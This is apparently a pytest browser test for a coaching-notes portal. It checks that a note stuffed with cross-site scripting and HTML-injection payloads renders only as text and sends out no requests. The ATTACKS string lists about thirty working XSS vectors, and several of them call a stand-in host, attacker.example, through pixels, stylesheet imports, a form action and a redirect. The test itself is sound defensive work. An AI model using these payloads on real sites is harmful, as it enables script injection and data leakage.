"""A note that tries to be more than text, and a key file instead of a published key."""

from __future__ import annotations

import os
import shutil
from datetime import date
from typing import TYPE_CHECKING

import pytest

from coachbook.book import load_book
from coachbook.keystore import protect
from coachbook.record import Record, parse_record
from coachbook.site import Job, build_site
from tests.browser.conftest import Desk, served
from tests.workspaces.otterbeck_small import (
    COACHEE,
    ROOT,
    SESSION,
    SESSION_TEXT,
    identity,
    seal_sections,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    MakeDesk = Callable[..., Desk]

PASSPHRASE = "anchor-biscuit-candle-drummer-easel-falcon"  # noqa: S105 (made up for this test)
ATTACKS = """\
Harmless first line.

<script>window.harmed = 1</script>
<img src=x onerror="window.harmed = 1">
<img src="https://attacker.example/pixel.png">
<svg onload="window.harmed = 1"><script>window.harmed = 1</script></svg>
<svg><animate onbegin="window.harmed = 1" attributeName=x dur=1s></svg>
<iframe src="javascript:window.top.harmed = 1"></iframe>
<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>
<style>body { display: none } @import url(https://attacker.example/x.css);</style>
<link rel=stylesheet href="https://attacker.example/x.css">
<form action="https://attacker.example/"><input name=a><button>Send</button></form>
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0;url=https://attacker.example/">
<a href="javascript:window.harmed = 1" id="raw">raw</a>
<a id="content" name="coachbook">clobber</a>
<form id="unlock"><input name="attributes"></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.harmed = 1"></style></table></math>
<details open ontoggle="window.harmed = 1">x</details>
<video><source onerror="window.harmed = 1"></video>
<object data="https://attacker.example/x"></object>
<embed src="https://attacker.example/x">

[a link](javascript:window.harmed=1)
[data](data:text/html,<script>window.harmed=1</script>)
[vb](vbscript:msgbox)
![picture](https://attacker.example/pixel.png)
![x](x" onerror="window.harmed=1)
<https://attacker.example/auto>

Harmless last line.
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A site in which one note holds every attack; served."""
    root = tmp_path_factory.mktemp("hostile") / "workspace"
    shutil.copytree(ROOT, root)
    text = SESSION_TEXT.split("## Notes")[0] + "## Notes\n\n" + ATTACKS
    record = parse_record(SESSION, text.encode())
    assert isinstance(record, Record)
    book = load_book(root, today=date(2026, 11, 16))
    (root / SESSION).write_text(seal_sections(book, record), encoding="utf-8")
    book = load_book(root, today=date(2026, 11, 16))
    build_site(Job(book, (), os.urandom), root / "site")
    with served(root / "site") as url:
        yield url


@pytest.fixture(scope="module")
def key_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The coachee's key as it lies on their device."""
    path = tmp_path_factory.mktemp("key") / f"{COACHEE}.age"
    path.write_text(protect([identity(COACHEE)], COACHEE, 1, PASSPHRASE, os.urandom))
    return path


def _unlock(one: Desk, key_file: Path) -> None:
    one.page.goto(f"{one.url}/portal/index.html")
    one.fill(COACHEE, PASSPHRASE)
    one.page.get_by_label("Key file").wait_for()
    one.page.get_by_label("Key file").set_input_files(key_file)
    one.page.get_by_label("Passphrase", exact=True).fill(PASSPHRASE)
    one.page.get_by_role("button", name="Unlock").click()
    one.page.wait_for_selector("#content h1")


def test_key_file_opens_the_portal(desk: MakeDesk, hostile: str, key_file: Path) -> None:
    """Where keys are not published, the portal asks for the key file and opens with it."""
    one = desk(url=hostile)

    _unlock(one, key_file)

    assert one.page.locator("#content h1").is_visible()


def test_note_is_only_text(desk: MakeDesk, hostile: str, key_file: Path) -> None:
    """Script, forms, frames and pictures in a note do nothing, and no request leaves."""
    one = desk(url=hostile)
    _unlock(one, key_file)
    one.go("cycle/c-0a1b2c3d")

    text = one.opened()

    assert "Harmless first line." in text
    assert "Harmless last line." in text
    assert one.page.evaluate("window.harmed") is None
    sealed = one.page.locator("[data-sealed]")
    for name in ("script", "img", "iframe", "style", "form", "input", "base", "meta", "object"):
        assert sealed.locator(name).count() == 0, name
    hrefs = sealed.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href') || '')")
    assert not [href for href in hrefs if href.startswith(("javascript:", "data:", "vbscript:"))]
    assert one.page.evaluate("document.querySelectorAll('#content').length") == 1


def test_lock_still_works_after_an_attack(desk: MakeDesk, hostile: str, key_file: Path) -> None:
    """A note cannot put something in the place of the portal's own buttons."""
    one = desk(url=hostile)
    _unlock(one, key_file)
    one.go("cycle/c-0a1b2c3d")
    one.opened()

    one.lock()

    one.page.get_by_role("button", name="Unlock").wait_for()
    assert "Harmless" not in one.page.content()
